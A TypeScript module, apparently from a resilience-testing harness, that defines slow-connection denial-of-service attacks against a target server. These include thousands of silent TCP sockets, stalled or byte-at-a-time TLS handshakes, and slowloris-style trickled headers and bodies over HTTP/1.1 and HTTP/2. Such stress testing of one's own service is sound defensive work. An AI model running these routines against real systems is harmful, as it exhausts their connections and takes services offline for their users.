// Attacks by connections: silent ones, handshakes that stop, heads and bodies that never end.

import type { TLSSocket } from "node:tls";
import { FRAME, frame } from "../raw-http2.ts";
import { type Attack, pause, repeat, type Target } from "./attack.ts";
import { http1Text, http2Headers, onSessions, openTcp, openTls } from "./wire.ts";

const LIST = "/apis/management.postern/v1/ownedaccesskeys";

/** The first bytes of a handshake, as a client sends them that then says no more. */
const CLIENT_HELLO_HEAD = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]);

/** As many sockets as stay open if another is opened for each that ends. */
async function keepOpen(
  sockets: number,
  open: (number: number) => { readonly closed: Promise<unknown>; close(): void },
  count: (outcome: string) => void,
  signal: AbortSignal,
): Promise<void> {
  const one = async (number: number): Promise<void> => {
    // Not all at once: what the kernel drops is no attack.
    await pause(number / 2, signal);
    while (!signal.aborted) {
      const each = open(number);
      count("opened");
      const end = (): void => each.close();
      signal.addEventListener("abort", end, { once: true });
      await each.closed;
      signal.removeEventListener("abort", end);
      if (!signal.aborted) count("ended");
      await pause(20, signal);
    }
  };
  await Promise.all(Array.from({ length: sockets }, (_, number) => one(number)));
}

function silent(target: Target, number: number, first?: Buffer, every?: Buffer) {
  const socket = openTcp(target, number);
  const closed = new Promise((resolve) => socket.once("close", resolve));
  if (first !== undefined) socket.once("connect", () => socket.write(first));
  const timer = every && setInterval(() => socket.writable && socket.write(every), 700);
  void closed.then(() => clearInterval(timer));
  return { closed, close: () => void socket.destroy() };
}

/** A connection behind its handshake, and what is done with it until it is closed. */
function secured(
  target: Target,
  number: number,
  protocol: "h2" | "http/1.1",
  use: (socket: TLSSocket) => Disposable | undefined,
) {
  const opened = openTls(target, number, [protocol]);
  const closed = opened.then((socket) => {
    if (socket === undefined) return undefined;
    const used = use(socket);
    return new Promise<void>((resolve) => {
      socket.once("close", () => {
        used?.[Symbol.dispose]();
        resolve();
      });
    });
  });
  return { closed, close: () => void opened.then((socket) => socket?.destroy()) };
}

/** Writes a head, and then the same few bytes twice a second. */
function trickle(socket: TLSSocket, head: string | Uint8Array, more: string): Disposable {
  socket.write(head);
  const timer = setInterval(() => socket.writable && socket.write(more), 500);
  return { [Symbol.dispose]: () => clearInterval(timer) };
}

export const CONNECTION_ATTACKS: readonly Attack[] = [
  {
    name: "silent TCP connections, from 250 addresses",
    shows: /^opened$/,
    run: (target, count, signal) => keepOpen(2_000, (number) => silent(target, number), count, signal),
  },
  {
    name: "silent TCP connections, from one address",
    shows: /^opened$/,
    run: (target, count, signal) => keepOpen(1_000, () => silent(target, 0), count, signal),
  },
  {
    name: "half TLS handshakes",
    shows: /^opened$/,
    run: (target, count, signal) =>
      keepOpen(1_500, (number) => silent(target, number, CLIENT_HELLO_HEAD), count, signal),
  },
  {
    name: "TLS handshakes a byte at a time",
    shows: /^opened$/,
    run: (target, count, signal) =>
      keepOpen(1_500, (number) => silent(target, number, CLIENT_HELLO_HEAD, Buffer.from([7])), count, signal),
  },
  {
    name: "whole TLS handshakes, one after the other",
    shows: /^handshake$/,
    async run(target, count, signal) {
      const one = async (number: number): Promise<void> => {
        for (let each = number; !signal.aborted; each += 24) {
          const socket = await openTls(target, each, ["h2"]);
          count(socket === undefined ? "ended before the handshake" : "handshake");
          socket?.destroy();
        }
      };
      await Promise.all(repeat(24, one));
    },
  },
  {
    name: "idle connections behind their handshake",
    shows: /^opened$/,
    run: (target, count, signal) =>
      keepOpen(800, (number) => secured(target, number, "h2", () => undefined), count, signal),
  },
  {
    name: "bodies that trickle in with the weakest key, HTTP/1.1",
    shows: /^opened$/,
    run: (target, count, signal) =>
      keepOpen(
        400,
        (number) =>
          secured(target, number, "http/1.1", (socket) => {
            const head = { path: LIST, method: "POST", key: target.weak };
            const length = { "content-type": "application/json", "content-length": "100000" };
            socket.on("data", (chunk: Buffer) =>
              count(/HTTP\/1\.1 (\d+)/.exec(chunk.toString("latin1"))?.[1] ?? "data"),
            );
            return trickle(socket, http1Text({ ...head, headers: length }), "{");
          }),
        count,
        signal,
      ),
  },
  {
    name: "bodies that trickle in with the weakest key, HTTP/2",
    shows: /^bodies$/,
    run: (target, count, signal) =>
      onSessions(target, 12, count, signal, async (session) => {
        const headers = { "content-type": "application/json", "content-length": "100000" };
        const streams = repeat(200, (index) => 1 + 2 * index);
        for (const stream of streams)
          session.send(http2Headers(stream, { path: LIST, method: "POST", key: target.weak, headers }, false));
        count("bodies", streams.length);
        while (session.isOpen() && !signal.aborted) {
          session.send(...streams.map((stream) => frame(FRAME.data, 0, stream, Buffer.from("{"))));
          await pause(400, signal);
        }
      }),
  },
  {
    name: "heads that trickle in, HTTP/1.1",
    shows: /^opened$/,
    run: (target, count, signal) =>
      keepOpen(
        500,
        (number) =>
          secured(target, number, "http/1.1", (socket) => {
            socket.resume();
            return trickle(socket, "GET / HTTP/1.1\r\nhost: x\r\n", "a: b\r\n");
          }),
        count,
        signal,
      ),
  },
];
